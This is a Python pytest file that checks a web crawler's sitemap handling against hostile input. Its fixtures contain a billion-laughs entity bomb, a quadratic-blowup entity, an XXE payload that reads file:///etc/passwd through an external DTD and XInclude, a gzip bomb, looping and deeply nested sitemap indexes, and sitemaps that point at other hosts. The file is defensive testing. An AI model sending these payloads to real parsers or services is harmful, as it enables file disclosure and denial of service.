"""T5, T18: sitemaps that are bombs, that go round, that never end, or that speak for others."""

import gzip
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

import gossamer
from gossamer.testing import ScriptedHost, ScriptedWeb
from tests.integration.threats import Done, Knobs, crawl, serving

XML = "application/xml"
SITEMAPS: Knobs = {"process": {"sitemaps": True}}
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]><urlset><url><loc>/laugh-&j;</loc></url>"
    "<url><loc>http://laughs.test:$PORT/after</loc></url></urlset>"
)
QUADRATIC = (
    f'<!DOCTYPE urlset [<!ENTITY big "{"x" * 1_000}">]><urlset><url><loc>/{"&big;" * 10_000}</loc>'
    "</url><url><loc>http://quadratic.test:$PORT/after</loc></url></urlset>"
)
EXTERNAL = (
    '<!DOCTYPE urlset SYSTEM "http://dtd.test:$PORT/evil.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
    '<!ENTITY % p SYSTEM "http://dtd.test:$PORT/parameter">%p;]><urlset xmlns:xi="'
    'http://www.w3.org/2001/XInclude"><xi:include href="http://dtd.test:$PORT/xi"/>'
    "<url><loc>http://external.test:$PORT/&f;</loc></url>"
    "<url><loc>http://external.test:$PORT/after</loc></url></urlset>"
)


def index(*urls: str) -> bytes:
    entries = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in urls)
    return f"<sitemapindex>{entries}</sitemapindex>".encode()


def pages(*urls: str) -> bytes:
    entries = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
    return f"<urlset>{entries}</urlset>".encode()


@dataclass(frozen=True)
class Read:
    done: Done
    web: ScriptedWeb

    def host(self, name: str) -> ScriptedHost:
        return self.web.host(f"{name}.test")

    def asked(self, name: str, path: str) -> int:
        return self.done.asked[self.host(name).url(path)]


def with_map(web: ScriptedWeb, name: str, body: bytes, path: str = "/map.xml") -> ScriptedHost:
    """Make a host whose robots.txt names a sitemap, and whose honest page only that names."""
    host = web.host(f"{name}.test").page("/", text=name).page("/after", text=f"{name} after")
    return host.robots(f"Sitemap: {path}\n").file(path, body, XML)


@pytest.fixture(scope="module")
def read(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Read]:
    web = ScriptedWeb()
    seeds = [
        with_map(web, "laughs", LAUGHS.encode()),
        with_map(web, "quadratic", QUADRATIC.encode()),
        with_map(web, "external", EXTERNAL.encode()),
        *going_round(web),
        *speaking_for_others(web),
    ]
    seeds.append(with_map(web, "packed", b"", "/map.xml.gz"))
    knobs = {**SITEMAPS, "filter": {"scope": "any", "max_urls_per_host": 300}}
    with serving(web) as server:
        many = web.host("many.test")
        body = pages(*(many.url(f"/{n}") for n in range(60_000)))
        seeds.append(with_map(web, "many", body))
        packed = gzip.compress(pages(web.host("packed.test").url("/after")) + b" " * (120 << 20), 1)
        web.host("packed.test").file("/map.xml.gz", packed, "application/gzip")
        urls = [host.url() for host in seeds]
        done = crawl(server, tmp_path_factory.mktemp("maps") / "c", *urls, knobs=knobs)
        yield Read(done, web)


def going_round(web: ScriptedWeb) -> Iterator[ScriptedHost]:
    host = with_map(web, "itself", b"")
    host.file("/map.xml", index(host.url("/map.xml"), host.url("/m2")), XML)
    host.file("/m2", index(host.url("/map.xml"), host.url("/m2"), host.url("/m3")), XML)
    yield host.file("/m3", pages(host.url("/after")), XML)
    host = with_map(web, "deep", b"")
    host.file("/map.xml", index(host.url("/i1")), XML)
    for level in range(1, 30):
        here, further = host.url(f"/p{level}"), host.url(f"/i{level + 1}")
        host.page(f"/p{level}", text=f"page {level}")
        body = index(further) if level != 1 else index(further, host.url("/m3"))
        host.file(f"/i{level}", body + f"<!-- {here} -->".encode(), XML)
    yield host.file("/m3", pages(host.url("/after")), XML)
    host = with_map(web, "moved", b"")
    host.redirect("/map.xml", to="/r1").redirect("/r1", to="/r2").redirect("/r2", to="/r3")
    host.file("/r3", index(host.url("/m")), XML)
    yield host.file("/m", pages(host.url("/after")), XML)


def speaking_for_others(web: ScriptedWeb) -> Iterator[ScriptedHost]:
    victim = web.host("victim.test").page("/secret").page("/admin").page("/text").page("/trick")
    liar = with_map(web, "liar", pages(victim.url("/secret"), "http://liar.test:$PORT/after"))
    liar.file("/sitemap.txt", f"{victim.url('/text')}\n".encode(), "text/plain")
    liar.page("/", links=["/sitemap.txt", "/?//victim.test/", f"/?x=//victim.test:{1}"])
    liar.page("/?//victim.test/", links=["/trick.xml"], text="trick")
    yield liar.file("/trick.xml", pages(victim.url("/trick")), XML)
    store = web.host("store.test")
    owner = web.host("owner.test").page("/", text="owner").page("/after", text="owner after")
    owner.robots(f"Sitemap: {store.url('/owner.xml')}\n")
    store.file("/owner.xml", pages(owner.url("/after"), victim.url("/admin")), XML)
    yield owner


ENDS = ("laughs", "quadratic", "external", "itself", "deep", "moved", "liar", "owner", "packed")


@pytest.mark.parametrize("name", ENDS)
def test_the_honest_entry_beside_the_trap_is_fetched_once(name: str, read: Read) -> None:
    assert read.asked(name, "/after") == 1


def test_no_entity_is_expanded_and_nothing_is_fetched_for_it(read: Read) -> None:
    assert not read.done.server.requests_to("dtd.test", with_robots=True)
    assert not [v for v in read.done.server.requests if "haha" in v.target or "xxxx" in v.target]
    assert not [name for name, content in read.done.everything() if b"root:x:0:0" in content]


def test_an_index_that_names_itself_is_read_once(read: Read) -> None:
    for path in ("/map.xml", "/m2", "/m3"):
        assert read.asked("itself", path) == 1


def test_indexes_of_indexes_are_followed_two_deep_and_why_says_so(read: Read) -> None:
    asked = [read.asked("deep", path) for path in ("/map.xml", "/i1", "/i2", "/i3", "/i4")]
    assert asked == [1, 1, 1, 0, 0]
    told = read.done.why(read.host("deep").url("/i3"))
    assert (told["state"], told["reason"]) == ("refused", "not_followed")
    assert told["via"] == read.host("deep").url("/i2")


def test_redirects_on_the_way_to_an_index_do_not_count_as_nesting(read: Read) -> None:
    assert read.asked("moved", "/m") == 1


def test_a_sitemap_speaks_for_its_own_host_or_the_one_that_vouches_for_it(read: Read) -> None:
    assert not read.done.server.requests_to("victim.test", with_robots=True)
    for path in ("/secret", "/admin", "/text", "/trick"):
        told = read.done.why(read.host("victim").url(path))
        assert (told["state"], told["reason"]) == ("refused", "not_followed")


def test_fifty_thousand_entries_are_read_and_the_host_keeps_its_budget(read: Read) -> None:
    asked = [v for v in read.done.server.requests_to("many.test") if v.target[1:].isdigit()]
    assert 0 < len(asked) <= 300
    refused = read.done.ending.status.refused
    assert isinstance(refused, dict)
    assert len(asked) + refused["host_budget"] == 50_000


def test_the_crawl_ends_by_itself(read: Read) -> None:
    assert read.done.ending.reason == "finished"


def test_a_rebuilt_state_remembers_how_deep_it_was(tmp_path: Path) -> None:
    web = ScriptedWeb()
    (host,) = [h for h in going_round(web) if h.name == "deep.test"]
    with serving(web) as server:
        for level in range(1, 30):
            host.file(f"/i{level}", index(host.url(f"/i{level + 1}")), XML)
        host.file("/map.xml", index(host.url("/i1")), XML)
        done = crawl(server, tmp_path / "c", host.url(), knobs=SITEMAPS)
        before = done.ending.status.known_urls
        gossamer.build_state(tmp_path / "c")
        again = gossamer.Crawl(tmp_path / "c").run()
        assert again.is_finished
        assert again.status.known_urls == before
        assert not [v for v in server.requests if v.target == "/i3"]
